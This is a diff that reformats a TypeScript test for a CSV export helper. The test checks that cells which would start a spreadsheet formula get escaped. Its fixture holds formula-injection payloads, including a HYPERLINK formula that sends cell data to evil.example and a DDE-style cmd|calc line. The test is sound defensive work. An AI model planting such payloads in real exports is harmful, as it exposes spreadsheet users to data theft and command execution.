@@ -12,12 +12,28 @@ const parse = (csv: string) => Papa.parse<string[]>(csv, { header: false }).data
 
 describe('CSV export', () => {
   it('escapes every cell that would start a formula, header and multi-line cells included', () => {
-    const evil = ['=HYPERLINK("https://evil.example/?"&A3,"Open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=2+5+cmd|calc!a0@evil.example', '=1+2\nsecond line'];
-    const csv = toCsv(['=Header', 'Plain'], evil.map((cell) => [cell, 'x']));
+    const evil = [
+      '=HYPERLINK("https://evil.example/?"&A3,"Open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '=2+5+cmd|calc!a0@evil.example',
+      '=1+2\nsecond line',
+    ];
+    const csv = toCsv(
+      ['=Header', 'Plain'],
+      evil.map((cell) => [cell, 'x']),
+    );
     const cells = parse(csv).flat();
     expect(cells.filter((c) => PATTERNS.formulaStart.test(c))).toEqual([]);
     // Shown as the text it was: the apostrophe only.
-    expect(parse(csv).slice(1).map((r) => r[0])).toEqual(evil.map((c) => `'${c}`));
+    expect(
+      parse(csv)
+        .slice(1)
+        .map((r) => r[0]),
+    ).toEqual(evil.map((c) => `'${c}`));
     expect(parse(csv)[0]).toEqual(["'=Header", 'Plain']);
   });
 
@@ -34,9 +50,13 @@ describe('CSV export', () => {
     const root = path.resolve(import.meta.dirname, '../..');
     const helper = path.join('web', 'src', 'lib', 'csv.ts');
     const files = ['web/src', 'functions', 'shared', 'infra'].flatMap((dir) =>
-      (readdirSync(path.join(root, dir), { recursive: true }) as string[]).filter((f) => /\.tsx?$/.test(f)).map((f) => path.join(dir, f)),
+      (readdirSync(path.join(root, dir), { recursive: true }) as string[])
+        .filter((f) => /\.tsx?$/.test(f))
+        .map((f) => path.join(dir, f)),
     );
     expect(files.length).toBeGreaterThan(100);
-    expect(files.filter((f) => f !== helper && /\bunparse\b/.test(readFileSync(path.join(root, f), 'utf8')))).toEqual([]);
+    expect(files.filter((f) => f !== helper && /\bunparse\b/.test(readFileSync(path.join(root, f), 'utf8')))).toEqual(
+      [],
+    );
   });
 });
